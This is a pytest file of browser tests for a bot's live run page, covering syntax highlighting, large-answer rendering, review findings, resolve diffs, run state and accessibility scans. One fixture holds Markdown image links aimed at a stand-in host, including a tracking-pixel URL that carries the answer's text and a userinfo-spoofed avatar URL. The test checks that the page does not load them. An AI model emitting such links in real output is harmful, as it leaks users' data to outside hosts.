"""The live page's client side in headless Chromium: highlighting, rendering that cannot
freeze, the state line, the review and resolve views, accessibility (axe-core).

Like tests/test_browser.py (whose fixtures these tests share), each test runs `livebot web` on
the suite's Redis and writes a run's events with the real RunLog/RunWriter. Screenshots go to
PAGE_SHOTS (light and dark, desktop and 390 px wide) for a person to look at.
"""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

import pytest

from livebot.runs.log import RunLog
from tests.support import PUBLIC, ServerProcess
from tests.test_browser import (  # noqa: F401 (the fixtures browser and web_server)
    COMMENT_URL,
    TIMEOUT_MS,
    answer_text,
    browser,
    link,
    stream,
    wait_for_answer,
    web_server,
)

# Among the slowest: `-m "not slow"` leaves them out of a quick loop (CI runs them all).
pytestmark = pytest.mark.slow

AXE = Path(__file__).parent / "vendor" / "axe.min.js"
PAGE_SHOTS = Path("/tmp/page-shots")
DESKTOP = {"width": 1000, "height": 800}
PHONE = {"width": 390, "height": 844}
PR_URL = "https://github.com/octo/hello/pull/7"
PAGE_SHOTS.mkdir(parents=True, exist_ok=True)

PYTHON_ANSWER = (
    "The fix, in `bot/router.py`:\n\n"
    "```python\n"
    "def first(xs: list[int]) -> int:\n"
    '    """The first element."""\n'
    "    return xs[0]  # never past the end\n"
    "```\n\n"
    "That is all.\n"
)

TABLE_ANSWER = (
    "| exception | where it is raised | what to do about it |\n"
    "|---|---|---|\n"
    "| AttributeError | bot/router.py in dispatch_webhook_delivery | check the payload first |\n"
    "| KeyboardInterrupt | bot/worker.py in run_forever_until_stopped | stop the worker cleanly |\n"
    "| UnicodeDecodeError | web/webhook.py in read_signed_body_bytes | refuse the delivery |\n\n"
    "```\n" + "x" * 3000 + "\n```\n\n" + "A line without spaces: " + "y" * 3000 + "\n"
)

FINDINGS = [
    {
        "path": "app/config.py",
        "line": 14,
        "start_line": 12,
        "side": "RIGHT",
        "severity": "blocker",
        "title": "The secret is logged by `log.info`",
        "body": "`log.info(secret)` writes the key to the log.",
        "suggestion": 'log.info("secret loaded")',
    },
    {
        "path": "app/server.py",
        "line": 40,
        "severity": "major",
        "title": "No timeout on the upstream call",
        "body": "A hung upstream holds the request forever.",
    },
    {
        "path": "README.md",
        "line": 3,
        "severity": "nit",
        "title": "Typo",
        "body": "*recieve* → *receive*",
    },
]

REPLACED = "    secret = read_secret()\n    log.info(secret)\n    return secret"

DIFF = (
    "diff --git a/app/config.py b/app/config.py\n"
    "index 1111111..2222222 100644\n"
    "--- a/app/config.py\n"
    "+++ b/app/config.py\n"
    "@@ -10,4 +10,6 @@ def load():\n"
    "     secret = read_secret()\n"
    "-    log.info(secret)\n"
    '+    log.info("secret loaded")\n'
    "+    if not secret:\n"
    '+        raise ValueError("no secret")\n'
    "     return secret\n"
    "diff --git a/app/old.py b/app/old.py\n"
    "deleted file mode 100644\n"
    "--- a/app/old.py\n"
    "+++ /dev/null\n"
    "@@ -1,2 +0,0 @@\n"
    "-import os\n"
    "-print(os.getcwd())\n"
)


# ------------------------------------------------------------------------------ helpers


async def open_page(
    browser: Any, url: str, *, viewport: dict[str, int] = DESKTOP, dark: bool = False
) -> Any:
    """A page on `url` whose script errors and CSP violations fail the test at `assert_clean`."""
    context = await browser.new_context(viewport=viewport, color_scheme="dark" if dark else "light")
    page = await context.new_page()
    page.set_default_timeout(TIMEOUT_MS)
    page.problems = []
    page.on("pageerror", lambda error: page.problems.append(f"error: {error}"))
    page.on(
        "console",
        lambda m: page.problems.append(m.text) if "Content Security Policy" in m.text else None,
    )
    response = await page.goto(url)
    assert response is not None and response.status == 200
    return page


def assert_clean(page: Any) -> None:
    assert page.problems == [], f"errors or CSP violations on the page: {page.problems}"


async def shoot(page: Any, name: str) -> None:
    """A full-page screenshot in PAGE_SHOTS, for a person to look at."""
    await page.screenshot(path=str(PAGE_SHOTS / f"{name}.png"), full_page=True)


async def new_run(run_log: RunLog, workflow: str = "answer", title: str = "Why?") -> str:
    return await run_log.create(
        workflow=workflow, repository="octo/hello", number=42, fields={"title": title, **PUBLIC}
    )


async def visible_text(page: Any) -> str:
    """What <main> shows (the screen-reader-only announcer sits outside it)."""
    text: str = await page.inner_text("main")
    return text


# ------------------------------------------------------------------------------ tests


async def test_streamed_python_block_is_highlighted_and_finished_blocks_stay(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    run_id = await new_run(run_log)
    writer = run_log.writer(run_id)
    page = await open_page(browser, link(web_server, run_id))
    await page.wait_for_selector("#connection[data-state=open]")
    await writer.status("running", "Writing the answer")

    # Half of the code block: highlighted while it streams, before its fence is closed.
    cut = PYTHON_ANSWER.index("    return")
    await stream(writer, PYTHON_ANSWER[:cut])
    await wait_for_answer(page, PYTHON_ANSWER[:cut])
    code = page.locator("#answer pre code.language-python.hljs")
    await code.locator(".hljs-keyword", has_text="def").wait_for()
    assert await page.get_attribute("body", "data-run-state") == "streaming"
    # The first paragraph is a finished block: its element must survive the rest of the stream.
    await page.evaluate("window.firstBlock = document.querySelector('#answer p')")

    await stream(writer, PYTHON_ANSWER[cut:])
    await writer.complete("succeeded", comment_url=COMMENT_URL)
    await page.wait_for_selector("body[data-run-state=complete]")
    assert await answer_text(page) == PYTHON_ANSWER
    assert await code.locator(".hljs-title", has_text="first").count() == 1
    assert await code.locator(".hljs-comment", has_text="never past the end").count() == 1
    assert await code.locator(".hljs-string").count() >= 1
    assert await page.evaluate("window.firstBlock.isConnected"), (
        "a finished block was rendered again"
    )
    assert await page.locator("#answer p").last.inner_text() == "That is all."
    assert_clean(page)


IMAGES_ANSWER = (
    "![the author](https://avatars.githubusercontent.com/u/583231?v=4)\n\n"
    "![a chart](https://camo.githubusercontent.com/4a5b6c/687474703a2f2f6576696c)\n\n"
    "![leak](https://evil.example/pixel.png?d=the-answer-so-far)\n\n"
    "![tricky](https://avatars.githubusercontent.com@evil.example/x.png)\n\n"
    "![a dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNg)\n"
)


async def test_only_avatars_load_other_images_are_links(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    run_id = await new_run(run_log)
    writer = run_log.writer(run_id)
    page = await open_page(browser, link(web_server, run_id))
    await page.wait_for_selector("#connection[data-state=open]")
    await stream(writer, IMAGES_ANSWER)
    await writer.complete("succeeded", comment_url=COMMENT_URL)
    await page.wait_for_selector("body[data-run-state=complete]")
    images = page.locator("#answer img")
    assert await images.count() == 1
    assert await images.get_attribute("src") == "https://avatars.githubusercontent.com/u/583231?v=4"
    links = page.locator("#answer a")
    assert await links.evaluate_all("as => as.map(a => [a.textContent, a.host])") == [
        ["a chart", "camo.githubusercontent.com"],
        ["leak", "evil.example"],
        ["tricky", "evil.example"],
    ]
    assert "a dot" in await visible_text(page)
    assert "data:" not in await page.inner_html("#answer")
    assert_clean(page)


async def test_table_scrolls_at_390px_and_no_word_is_broken(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    run_id = await new_run(run_log)
    await run_log.append(run_id, "status", {"state": "running", "message": "Writing"})
    await run_log.append(run_id, "token", {"text": TABLE_ANSWER})
    await run_log.append(run_id, "complete", {"status": "succeeded", "comment_url": COMMENT_URL})
    page = await open_page(browser, link(web_server, run_id), viewport=PHONE)
    await page.wait_for_selector("body[data-run-state=complete]")

    table = page.locator("#answer table")
    assert await table.evaluate("t => t.scrollWidth > t.clientWidth"), "the table does not scroll"
    assert await page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    # Every word of every cell sits on one line: no mid-word break.
    broken = await table.evaluate(
        """t => {
            const broken = [];
            const walker = document.createTreeWalker(t, NodeFilter.SHOW_TEXT);
            for (let n = walker.nextNode(); n; n = walker.nextNode()) {
                for (const m of n.data.matchAll(/\\S+/g)) {
                    const r = document.createRange();
                    r.setStart(n, m.index);
                    r.setEnd(n, m.index + m[0].length);
                    if (r.getClientRects().length !== 1) broken.push(m[0]);
                }
            }
            return broken;
        }"""
    )
    assert broken == []
    assert "AttributeError" in await table.inner_text()
    # A long unbroken code line scrolls inside its block, as on GitHub.
    pre = page.locator("#answer pre")
    assert await pre.evaluate("p => p.scrollWidth > p.clientWidth && p.clientWidth < 390")
    assert await pre.get_attribute("tabindex") == "0"
    assert_clean(page)


def big_answer(size: int) -> str:
    """A Markdown answer of about `size` characters, of numbered sections of every kind."""
    parts: list[str] = []
    n = 0
    while sum(map(len, parts)) < size:
        n += 1
        parts.append(
            f"## Section {n}\n\n"
            f"Paragraph {n} with `code`, **bold** and a [link](https://example.com/{n}).\n\n"
            f"- item {n}.1\n- item {n}.2\n\n"
            f"```python\ndef f{n}(x):\n    return x * {n}\n```\n\n"
            f"| n | square |\n|---|---|\n| {n} | {n * n} |\n\n"
        )
    return "".join(parts)


async def rendered(page: Any) -> None:
    """Wait until the whole answer is rendered (a cheap poll: a selector would walk the DOM)."""
    await page.wait_for_function(
        "() => document.getElementById('answer').getAttribute('aria-busy') === 'false'",
        polling=50,
        timeout=60_000,
    )


async def rendered_matches_whole(page: Any) -> bool:
    """The incrementally rendered #answer equals markdown-it's render of the whole text."""
    matches: bool = await page.evaluate(
        """() => {
            const whole = document.createElement('div');
            whole.innerHTML = window.livebot.renderFull();
            const shown = document.getElementById('answer').cloneNode(true);
            for (const chunk of shown.querySelectorAll('.md-chunk')) {
                chunk.replaceWith(...chunk.childNodes);
            }
            return whole.innerHTML === shown.innerHTML;
        }"""
    )
    return matches


async def test_two_megabyte_answer_renders_exactly(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    text = big_answer(2_000_000)
    chunk = 4096
    timings: list[str] = []

    # Live: the page is open while 2 MB arrive through the coalescing writer.
    run_id = await new_run(run_log)
    writer = run_log.writer(run_id)
    page = await open_page(browser, link(web_server, run_id))
    await page.wait_for_selector("#connection[data-state=open]")
    await writer.status("running", "Writing a long answer")
    started = time.monotonic()
    for start in range(0, len(text), chunk):
        writer.token(text[start : start + chunk])
    await writer.complete("succeeded", comment_url=COMMENT_URL)
    written = time.monotonic()
    await rendered(page)
    done = time.monotonic()
    assert await answer_text(page) == text
    assert await rendered_matches_whole(page), "the incremental render differs from a whole one"
    last = text.count("## Section")
    assert await page.locator("#answer h2").last.text_content() == f"Section {last}"
    timings.append(
        f"live 2 MB: {written - started:.2f} s to write, rendered {done - written:.2f} s after"
        f" the last event ({done - started:.2f} s in all)"
    )
    assert_clean(page)

    # Finished: the page opens on the whole 2 MB at once.
    run_id = await new_run(run_log)
    for start in range(0, len(text), chunk):
        await run_log.append(run_id, "token", {"text": text[start : start + chunk]})
    await run_log.append(run_id, "complete", {"status": "succeeded", "comment_url": COMMENT_URL})
    opened = time.monotonic()
    page = await open_page(browser, link(web_server, run_id))
    await rendered(page)
    done = time.monotonic()
    assert await answer_text(page) == text
    assert await rendered_matches_whole(page)
    timings.append(f"finished 2 MB: page open to fully rendered in {done - opened:.2f} s")

    # One 64,000-character line without spaces, in a paragraph and in code.
    line = "z" * 64_000
    run_id = await new_run(run_log)
    await run_log.append(run_id, "token", {"text": f"{line}\n\n```\n{line}\n```\n"})
    await run_log.append(run_id, "complete", {"status": "succeeded"})
    opened = time.monotonic()
    page = await open_page(browser, link(web_server, run_id))
    await rendered(page)
    done = time.monotonic()
    timings.append(f"64,000-character line: page open to rendered in {done - opened:.2f} s")
    assert await page.locator("#answer pre").evaluate("p => p.scrollWidth > p.clientWidth")

    await asyncio.to_thread((PAGE_SHOTS / "timings.txt").write_text, "\n".join(timings) + "\n")
    print("\n".join(timings))


async def test_review_findings_show_as_they_are_submitted(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    run_id = await new_run(run_log, "review", "Add config loading")
    writer = run_log.writer(run_id)
    page = await open_page(browser, link(web_server, run_id))
    await writer.status("running", "Reading the diff")
    await writer.emit(
        "tool_call",
        {"name": "submit_review", "arguments": {"summary": "Two problems", "findings": FINDINGS}},
    )
    # Shown at once, before GitHub has placed them.
    findings = page.locator("#findings li.finding")
    await findings.nth(2).wait_for()
    assert await page.inner_text("#review-count") == "3 findings"
    blocker = page.locator("#findings li.finding[data-severity=blocker]")
    assert await blocker.locator(".severity").inner_text() == "Blocker"
    assert await blocker.locator(".finding-loc-text").inner_text() == "app/config.py:12–14"
    assert await blocker.locator(".finding-body code").inner_text() == "log.info(secret)"
    # The title's `code` is code, not backticks.
    assert await blocker.locator(".finding-title").inner_text() == (
        "The secret is logged by log.info"
    )
    assert await blocker.locator(".finding-title code").inner_text() == "log.info"
    suggestion = blocker.locator(".suggestion .diff-add")
    assert await suggestion.inner_text() == '+log.info("secret loaded")'
    assert await blocker.locator(".suggestion .diff-del").count() == 0, (
        "not known before the result"
    )

    placed = [
        {**f, "url": f"{PR_URL}/files#r{i}", "placement": "inline" if i < 2 else "body"}
        for i, f in enumerate(FINDINGS)
    ]
    # The result says which lines the suggestion replaces: shown in red above the new ones.
    placed[0]["replaced"] = REPLACED
    await writer.emit(
        "tool_result",
        {
            "name": "submit_review",
            "summary": "Review posted with 3 findings",
            "review_url": f"{PR_URL}#pullrequestreview-1",
            "findings": placed,
        },
    )
    placed_link = page.locator(f'#findings a.finding-loc[href="{PR_URL}/files#r0"]')
    await placed_link.wait_for()
    assert await placed_link.inner_text() == "app/config.py:12–14"
    assert await findings.count() == 3, "the result replaces the submitted findings"
    assert (
        await page.locator("#findings .finding-placement", has_text="inline comment").count() == 2
    )
    assert await page.locator(f'#review-foot a[href="{PR_URL}#pullrequestreview-1"]').count() == 1
    assert await page.locator("#activity li[data-tool=submit_review] .tool-args").inner_text() == (
        "3 findings"
    )
    lines = blocker.locator(".suggestion .diff-line")
    await blocker.locator(".suggestion .diff-del").first.wait_for()
    assert await lines.evaluate_all("(ls) => ls.map((l) => l.className + '|' + l.textContent)") == [
        *(f"diff-line diff-del|-{line}" for line in REPLACED.split("\n")),
        'diff-line diff-add|+log.info("secret loaded")',
    ]
    await writer.complete("succeeded", comment_url=COMMENT_URL)
    await page.wait_for_selector("body[data-run-state=complete]")
    # A review's words, not an answer's.
    assert await page.inner_text("#answer-caption") == "reviewed"
    assert await page.inner_text("#outcome .outcome-text") == "The review is posted on GitHub."
    assert await page.title() == "✓ Done · Livebot · octo/hello#42"
    await shoot(page, "review-desktop-light")
    assert_clean(page)


async def test_a_re_review_lists_the_earlier_findings_with_their_states(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    run_id = await new_run(run_log, "review", "Add config loading")
    writer = run_log.writer(run_id)
    page = await open_page(browser, link(web_server, run_id))
    earlier = [
        {"fingerprint": f"{n:016x}", "title": title, "path": "app/config.py", "state": state,
         "url": f"{PR_URL}#discussion_r{n}"}
        for n, (title, state) in enumerate(
            [("Fixed", "open"), ("Refused", "open"), ("Intended", "settled"),
             ("Argued", "disputed"), ("Waiting", "open"), ("<b>Old</b>", "resolved")]
        )
    ]  # fmt: skip
    await writer.emit(
        "tool_result",
        {
            "name": "submit_review",
            "summary": "The review is posted: no findings.",
            "findings": [],
            "earlier": earlier,
            "resolved": [earlier[0]["fingerprint"]],
            "not_resolved": [earlier[1]["fingerprint"]],
        },
    )
    items = page.locator("#earlier li.earlier-item")
    await items.nth(5).wait_for()
    labels = [await items.nth(i).locator(".earlier-state").inner_text() for i in range(6)]
    assert labels == [
        "Resolved now", "Fixed, not resolved", "Settled", "Disputed", "Open", "Resolved"
    ]  # fmt: skip
    assert await page.locator(f'#earlier a[href="{PR_URL}#discussion_r2"]').inner_text() == (
        "Intended"
    )
    assert await items.nth(5).locator(".earlier-title").inner_text() == "<b>Old</b>"
    await writer.complete("succeeded", comment_url=COMMENT_URL)
    await page.wait_for_selector("body[data-run-state=complete]")
    await shoot(page, "review-earlier-light")
    assert_clean(page)
    dark = await open_page(browser, link(web_server, run_id), dark=True)
    await dark.locator("#earlier li.earlier-item").nth(5).wait_for()
    await shoot(dark, "review-earlier-dark")
    assert_clean(dark)


async def resolve_run(run_log: RunLog, *, finish: bool = True) -> str:
    """A resolve run: two files written and deleted, then (if `finish`) its final diff."""
    run_id = await new_run(run_log, "resolve", "The secret is logged")
    writer = run_log.writer(run_id)
    await writer.status("running", "Changing the code")
    content = "\n".join(f"line {i}" for i in range(400))
    await writer.emit(
        "tool_call",
        {"name": "write_file", "arguments": {"path": "app/config.py", "content": content}},
    )
    await writer.emit(
        "tool_result",
        {
            "name": "write_file",
            "summary": "app/config.py: +3 −1",
            "path": "app/config.py",
            "additions": 3,
            "deletions": 1,
        },
    )
    await writer.emit("tool_call", {"name": "delete_file", "arguments": {"path": "app/old.py"}})
    await writer.emit(
        "tool_result",
        {
            "name": "delete_file",
            "summary": "app/old.py: +0 −2",
            "path": "app/old.py",
            "additions": 0,
            "deletions": 2,
        },
    )
    if finish:
        await writer.emit(
            "tool_result",
            {
                "name": "finish",
                "summary": "Stop logging the secret",
                "diff": DIFF,
                "files": [
                    {"path": "app/config.py", "status": "modified", "additions": 3, "deletions": 1},
                    {"path": "app/old.py", "status": "deleted", "additions": 0, "deletions": 2},
                ],
                "pull_request_url": PR_URL,
            },
        )
        await stream(writer, "I stopped logging the secret; see the pull request.\n")
        await writer.complete("succeeded", comment_url=COMMENT_URL)
    return run_id


async def test_resolve_shows_changed_files_and_the_final_diff(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    run_id = await resolve_run(run_log)
    page = await open_page(browser, link(web_server, run_id))
    await page.wait_for_selector("body[data-run-state=complete]")

    rows = page.locator("#files li.file-row")
    assert await rows.count() == 2
    config = rows.filter(has_text="app/config.py")
    assert await config.get_attribute("data-status") == "modified"
    assert await config.locator(".diffstat-add").inner_text() == "+3"
    assert await config.locator(".diffstat-del").inner_text() == "−1"
    assert await page.inner_text("#changes-count") == "2 files changed"

    files = page.locator("#diff details.diff-file")
    assert await files.count() == 2
    assert await files.nth(0).locator(".file-path").inner_text() == "app/config.py"
    assert await files.nth(0).locator(".diff-add").count() == 3
    assert await files.nth(0).locator(".diff-del").count() == 1
    assert await files.nth(1).locator(".diff-del").count() == 2
    added = (
        await files.nth(0)
        .locator(".diff-add")
        .first.evaluate("e => getComputedStyle(e).backgroundColor")
    )
    assert added not in ("rgba(0, 0, 0, 0)", "transparent")
    assert await page.locator(f'#changes-foot a[href="{PR_URL}"]').count() == 1

    # The file's content stays folded in the activity list, and only its first lines.
    call = page.locator("#activity li[data-tool=write_file]")
    assert await call.locator(".tool-args").inner_text() == "path=app/config.py"
    preview = call.locator("pre.tool-args-full")
    assert await preview.is_hidden()
    await call.locator("summary").focus()
    await page.keyboard.press("Enter")
    await preview.wait_for()
    shown = await preview.inner_text()
    assert "line 11" in shown and "line 12\n" not in shown and "388 more lines" in shown
    assert await call.locator(".activity-result").inner_text() == "app/config.py: +3 −1"
    assert_clean(page)


async def test_one_state_line_from_queued_to_succeeded(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    run_id = await new_run(run_log)
    writer = run_log.writer(run_id)
    page = await open_page(browser, link(web_server, run_id))
    label = page.locator("#state-label")
    heading = page.locator("#run-heading a")
    assert await heading.get_attribute("href") == "https://github.com/octo/hello/issues/42"
    assert await page.inner_text("#run-heading") == "Why? #42"
    # Connected, nothing happened yet: queued, and never "Connecting…" beside "Live".
    await page.wait_for_selector("#state-label[data-state=queued]")
    # The tab's title leads with the run's state.
    assert await page.title() == "◷ Queued · Livebot · octo/hello#42"
    assert await page.locator("#connection").inner_text() == "Live"
    assert "Connecting" not in await visible_text(page)

    await writer.status("running", "Reading the issue")
    await page.wait_for_selector("#state-label[data-state=running]")
    assert await page.title() == "● Running · Livebot · octo/hello#42"
    assert await page.inner_text("#status") == "Reading the issue"
    await writer.emit("tool_call", {"name": "read_file", "arguments": {"path": "a.py"}})
    await writer.emit("tool_result", {"name": "read_file", "summary": "40 lines"})
    await writer.status("running", "Writing the answer")
    current = page.locator('#activity li[aria-current="step"]')
    await current.filter(has_text="Writing the answer").wait_for()
    assert await current.count() == 1
    assert await page.locator("#activity li[data-step=done]").count() == 2
    await page.wait_for_selector("#announcer:has-text('Running: Writing the answer')")
    # The elapsed time ticks.
    elapsed = await page.inner_text("#elapsed")
    await page.wait_for_function(
        "(t) => document.getElementById('elapsed').innerText !== t", arg=elapsed
    )
    await shoot(page, "running-desktop-light")

    await stream(writer, "The answer.\n")
    await writer.complete(
        "succeeded",
        comment_url=COMMENT_URL,
        usage={"prompt_tokens": 10, "completion_tokens": 5},
        cost_usd=0.0042,
    )
    await page.wait_for_selector("body[data-run-state=complete]")
    assert await label.inner_text() == "Succeeded"
    assert await page.title() == "✓ Done · Livebot · octo/hello#42"
    assert await page.inner_text("#answer-caption") == "answered"
    text = await visible_text(page)
    assert text.lower().count("succeeded") == 1, text
    assert await page.inner_text("#status") == ""
    assert (await page.inner_text("#elapsed")).startswith("took ")
    assert await page.locator("#connection").is_hidden()
    assert await page.locator(".spinner").count() == 0
    assert await page.locator("#activity li[data-step=current]").count() == 0
    assert await page.locator("#activity li[data-step=done]").count() == 3
    await page.wait_for_selector("#announcer:has-text('Answer finished. Run succeeded.')")
    assert await page.locator(f'#outcome a[href="{COMMENT_URL}"]').count() == 1
    assert await page.inner_text("#outcome .outcome-cost") == "Estimated cost: $0.0042"
    assert_clean(page)


async def test_the_learnings_a_run_follows_are_named_in_its_header(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    plain, taught = await new_run(run_log), await new_run(run_log)
    await run_log.update(taught, learnings=2)
    page = await open_page(browser, link(web_server, taught))
    chip = page.locator(".run-learnings")
    await chip.wait_for()
    assert await chip.inner_text() == "· 2 learnings applied"
    page = await open_page(browser, link(web_server, plain))
    await page.wait_for_selector("#state-label[data-state=queued]")
    assert await page.locator(".run-learnings").count() == 0


async def test_a_failed_run_names_its_cause_beside_its_icon_at_390px(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    run_id = await new_run(run_log)
    writer = run_log.writer(run_id)
    page = await open_page(browser, link(web_server, run_id), viewport=PHONE)
    await writer.status("running", "Writing the answer")
    await stream(writer, "The first error is in")
    await writer.error(
        "The model did not answer in time; retrying", "llm_timeout", recoverable=True
    )
    await writer.error("The model did not answer in time", "llm_timeout", recoverable=False)
    await writer.complete("failed")
    await page.wait_for_selector("#outcome[data-status=failed]")
    assert await page.inner_text("#outcome .outcome-text") == (
        "The run did not finish. The model did not answer in time. "
        "The comment on GitHub says how to try again."
    )
    assert await page.title() == "✕ Failed · Livebot · octo/hello#42"
    # The icon sits on the sentence's first line, not on a line of its own.
    icon = await page.locator("#outcome .outcome-head .icon").bounding_box()
    text = await page.locator("#outcome .outcome-text").bounding_box()
    assert icon is not None and text is not None
    assert icon["x"] + icon["width"] <= text["x"] and abs(icon["y"] - text["y"]) < 4, (icon, text)
    await shoot(page, "failed-phone-light")
    assert_clean(page)


async def axe_violations(page: Any) -> list[str]:
    """Serious and critical axe-core violations on the page, as readable lines."""
    found = await page.evaluate(
        """async () => {
            const result = await axe.run(document, {resultTypes: ['violations']});
            return result.violations
                .filter(v => v.impact === 'serious' || v.impact === 'critical')
                .map(v => v.id + ': ' + v.help + ' @ '
                    + v.nodes.map(n => n.target.join(' ')).join(', '));
        }"""
    )
    return list(found)


async def test_accessibility_scan_light_and_dark(
    browser: Any, web_server: ServerProcess, run_log: RunLog
) -> None:
    finished = await resolve_run(run_log)
    review = await new_run(run_log, "review", "Add config loading")
    await run_log.append(review, "status", {"state": "running", "message": "Reviewing"})
    await run_log.append(
        review, "tool_call", {"name": "submit_review", "arguments": {"findings": FINDINGS}}
    )
    await run_log.append(review, "token", {"text": PYTHON_ANSWER + "\n" + TABLE_ANSWER})
    running = await resolve_run(run_log, finish=False)
    await run_log.append(running, "token", {"text": PYTHON_ANSWER})

    for dark in (False, True):
        scheme = "dark" if dark else "light"
        for name, run_id, ready in (
            ("finished", finished, "body[data-run-state=complete]"),
            ("review", review, "#findings li.finding >> nth=2"),
            ("running", running, "#answer pre code.hljs"),
        ):
            for width, viewport in (("desktop", DESKTOP), ("390", PHONE)):
                context = await browser.new_context(
                    viewport=viewport, color_scheme=scheme, reduced_motion="reduce"
                )
                page = await context.new_page()
                page.set_default_timeout(TIMEOUT_MS)
                # An init script is not subject to the page's CSP (an inline one would be).
                await page.add_init_script(path=str(AXE))
                await page.goto(link(web_server, run_id))
                await page.wait_for_selector(ready)
                await shoot(page, f"{name}-{width}-{scheme}")
                violations = await axe_violations(page)
                assert violations == [], f"{name} run, {scheme}, {width}: {violations}"
                await context.close()
